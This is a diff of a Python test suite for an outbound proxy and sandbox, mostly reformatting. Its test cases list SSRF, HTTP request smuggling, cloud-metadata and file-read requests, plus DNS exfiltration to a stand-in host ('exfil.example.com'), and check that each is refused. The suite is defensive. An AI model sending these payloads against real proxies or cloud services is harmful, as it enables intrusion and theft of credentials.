@@ -51,14 +51,15 @@ tries(lambda: reach(socket.AF_INET6, ('2606:4700:4700::1111', 443)))
 for host in ('8.8.8.8', '10.0.0.1', '255.255.255.255', '224.0.0.251'):
     tries(lambda: send(socket.AF_INET, (host, told['udp'])))
 with contextlib.suppress(OSError):
-    send(socket.AF_INET, ('127.0.0.1', told['udp']))  # its own loopback takes it; the host's must not
+    send(socket.AF_INET, ('127.0.0.1', told['udp']))  # to its own loopback, if it has one
 tries(lambda: send(socket.AF_INET6, ('ff02::1', 9)))
 """),
     Attack("names", "carry a secret out in the labels of a name", """
 for name in ('c2VjcmV0.exfil.example.com', 'example.com', 'exfil.local'):
     tries(lambda: socket.getaddrinfo(name, 443))
 def ask(server):
-    question = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06secret\\x03com\\x00\\x00\\x01\\x00\\x01'
+    question = struct.pack('>6H', 0x1234, 0x100, 1, 0, 0, 0)
+    question += b'\\x06secret\\x03com\\x00' + struct.pack('>2H', 1, 1)
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asked:
         asked.settimeout(1)
         asked.sendto(question, (server, 53))
@@ -100,7 +101,8 @@ def ioctl(number, name):
 tries(lambda: ioctl(0x8914, b'lo'))
 tries(lambda: ioctl(0x890b, b'eth0'))
 tries(lambda: os.open('/dev/net/tun', os.O_RDWR))
-tries(lambda: subprocess.run(['ip', 'link', 'add', 'x0', 'type', 'dummy'], check=True, capture_output=True))
+link = ['ip', 'link', 'add', 'x0', 'type', 'dummy']
+tries(lambda: subprocess.run(link, check=True, capture_output=True))
 """),
 ]  # fmt: skip
 
@@ -187,38 +189,121 @@ def connect(to: str) -> str:
     return f"CONNECT {to} HTTP/1.1\r\nHost: {to}\r\n\r\n"
 
 
+POST = "POST http://up.test:{web}/ HTTP/1.1\r\nHost: up.test:{web}\r\n"
+
 REFUSED = [
-    Ask("other-host", "ask for a host that is not allowed", "not_allowed", get("http://evil.test:{web}/", "evil.test:{web}")),
-    Ask("tunnel-other-host", "tunnel to a host that is not allowed", "not_allowed", connect("evil.test:443")),
-    Ask("below-allowed", "ask for a name below the allowed one", "not_allowed", connect("x.up.test:443")),
-    Ask("like-allowed", "ask for a name that ends alike", "not_allowed", connect("evilup.test:443")),
-    Ask("prefix-of-allowed", "ask for a name that begins alike", "not_allowed", connect("up.test.evil.test:443")),
+    Ask(
+        "other-host",
+        "ask for a host that is not allowed",
+        "not_allowed",
+        get("http://evil.test:{web}/", "evil.test:{web}"),
+    ),
+    Ask(
+        "tunnel-other-host",
+        "tunnel to a host that is not allowed",
+        "not_allowed",
+        connect("evil.test:443"),
+    ),
+    Ask(
+        "below-allowed",
+        "ask for a name below the allowed one",
+        "not_allowed",
+        connect("x.up.test:443"),
+    ),
+    Ask(
+        "like-allowed", "ask for a name that ends alike", "not_allowed", connect("evilup.test:443")
+    ),
+    Ask(
+        "prefix-of-allowed",
+        "ask for a name that begins alike",
+        "not_allowed",
+        connect("up.test.evil.test:443"),
+    ),
     Ask("loopback", "tunnel to the host itself", "ip_literal", connect("127.0.0.1:{web}")),
     Ask("loopback-short", "spell the host's address short", "ip_literal", connect("127.1:{web}")),
     Ask("loopback-number", "spell it as one number", "ip_literal", connect("2130706433:{web}")),
-    Ask("loopback-hex", "spell it in hexadecimal digits", "ip_literal", connect("0x7f000001:{web}")),
+    Ask(
+        "loopback-hex", "spell it in hexadecimal digits", "ip_literal", connect("0x7f000001:{web}")
+    ),
     Ask("loopback-octal", "spell it in octal digits", "ip_literal", connect("0177.0.0.1:{web}")),
     Ask("loopback-6", "spell it as of version 6", "ip_literal", connect("[::1]:{web}")),
     Ask("loopback-mapped", "spell it as mapped", "ip_literal", connect("[::ffff:127.0.0.1]:{web}")),
     Ask("localhost", "use its name", "not_allowed", connect("localhost:{web}")),
-    Ask("metadata", "ask the cloud for its keys", "ip_literal", get("http://169.254.169.254/latest/", "169.254.169.254")),
-    Ask("metadata-name", "ask for them by name", "not_allowed", connect("metadata.google.internal:80")),
-    Ask("proxy-itself", "go through the proxy to the proxy", "ip_literal", connect("127.0.0.1:3128")),
+    Ask(
+        "metadata",
+        "ask the cloud for its keys",
+        "ip_literal",
+        get("http://169.254.169.254/latest/", "169.254.169.254"),
+    ),
+    Ask(
+        "metadata-name",
+        "ask for them by name",
+        "not_allowed",
+        connect("metadata.google.internal:80"),
+    ),
+    Ask(
+        "proxy-itself", "go through the proxy to the proxy", "ip_literal", connect("127.0.0.1:3128")
+    ),
     Ask("other-port", "tunnel to a port that is no web server's", "port", connect("up.test:22")),
-    Ask("user-before-host", "hide the host behind a user's name", "userinfo", get("http://up.test@evil.test:{web}/", "evil.test:{web}")),
+    Ask(
+        "user-before-host",
+        "hide the host behind a user's name",
+        "userinfo",
+        get("http://up.test@evil.test:{web}/", "evil.test:{web}"),
+    ),
     Ask("other-scheme", "use another protocol", "scheme", get("ftp://up.test/", GOOD)),
     Ask("file-scheme", "read a file of the proxy's", "scheme", get("file:///etc/passwd", GOOD)),
     Ask("relative", "leave out the host of the request", "bad_request", get("/", GOOD)),
-    Ask("host-mismatch", "name one host in the line and another in the header", "host_mismatch", get("http://evil.test:{web}/")),
+    Ask(
+        "host-mismatch",
+        "name one host in the line and another in the header",
+        "host_mismatch",
+        get("http://evil.test:{web}/"),
+    ),
     Ask("null-in-host", "end the name early", "bad_request", connect("up.test\0.evil.test:443")),
-    Ask("tab-in-host", "break the name by a blank", "bad_request", connect("up.test\t.evil.test:443")),
-    Ask("wide-characters", "spell the name in other letters", "bad_request", connect("\xb5p.test:443")),
-    Ask("huge-head", "send a head without end", "too_large", "GET http://up.test/ HTTP/1.1\r\nX: " + "a" * 90_000),
-    Ask("folded-header", "fold a header over two lines", "host_mismatch", "GET http://up.test:{web}/ HTTP/1.1\r\nHost: up.test:{web}\r\n evil.test\r\n\r\n"),
-    Ask("two-hosts", "name two hosts", "bad_request", get("http://up.test:{web}/", "up.test:{web}", "Host: evil.test:{web}")),
-    Ask("two-lengths", "give two lengths, to smuggle a second request", "bad_request", "POST http://up.test:{web}/ HTTP/1.1\r\nHost: up.test:{web}\r\nContent-Length: 4\r\nContent-Length: 44\r\n\r\nabcd"),
-    Ask("length-and-chunks", "give a length and chunks, to smuggle a second request", "smuggling", "POST http://up.test:{web}/ HTTP/1.1\r\nHost: up.test:{web}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
-]  # fmt: skip
+    Ask(
+        "tab-in-host",
+        "break the name by a blank",
+        "bad_request",
+        connect("up.test\t.evil.test:443"),
+    ),
+    Ask(
+        "wide-characters",
+        "spell the name in other letters",
+        "bad_request",
+        connect("\xb5p.test:443"),
+    ),
+    Ask(
+        "huge-head",
+        "send a head without end",
+        "too_large",
+        "GET http://up.test/ HTTP/1.1\r\nX: " + "a" * 90_000,
+    ),
+    Ask(
+        "folded-header",
+        "fold a header over two lines",
+        "host_mismatch",
+        "GET http://up.test:{web}/ HTTP/1.1\r\nHost: up.test:{web}\r\n evil.test\r\n\r\n",
+    ),
+    Ask(
+        "two-hosts",
+        "name two hosts",
+        "bad_request",
+        get("http://up.test:{web}/", "up.test:{web}", "Host: evil.test:{web}"),
+    ),
+    Ask(
+        "two-lengths",
+        "give two lengths, to smuggle a second request",
+        "bad_request",
+        POST + "Content-Length: 4\r\nContent-Length: 44\r\n\r\nabcd",
+    ),
+    Ask(
+        "length-and-chunks",
+        "give a length and chunks, to smuggle a second request",
+        "smuggling",
+        POST + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
+    ),
+]
 
 
 @pytest.mark.parametrize("ask", REFUSED, ids=lambda one: one.name)
@@ -256,7 +341,8 @@ async def test_ignoring_the_proxy(reaching: Reaching) -> None:
         "for name in list(os.environ):\n"
         "    if name.lower().endswith('_proxy'): del os.environ[name]\n"
         "import urllib.request\n"
-        f"tries(lambda: urllib.request.urlopen('http://{GOOD}:{reaching.here.web.port}/', timeout=5))\n"
+        f"url = 'http://{GOOD}:{reaching.here.web.port}/'\n"
+        "tries(lambda: urllib.request.urlopen(url, timeout=5))\n"
     )
     assert "denied" in said.output
     assert reaching.here.web.connections == 0
@@ -270,7 +356,8 @@ async def test_tunnel_to_an_allowed_host_for_another(reaching: Reaching) -> None
         "import ssl\n"
         "def front():\n"
         "    raw = socket.create_connection(('127.0.0.1', 3128), 10)\n"
-        f"    raw.sendall(b'CONNECT {GOOD}:{here.safe.port} HTTP/1.1\\r\\nHost: {GOOD}:{here.safe.port}\\r\\n\\r\\n')\n"
+        f"    to = b'{GOOD}:{here.safe.port}'\n"
+        "    raw.sendall(b'CONNECT %b HTTP/1.1\\r\\nHost: %b\\r\\n\\r\\n' % (to, to))\n"
         "    assert b' 200 ' in raw.recv(4096)\n"
         "    context = ssl._create_unverified_context()\n"
         "    with context.wrap_socket(raw, server_hostname='evil.test') as safe:\n"
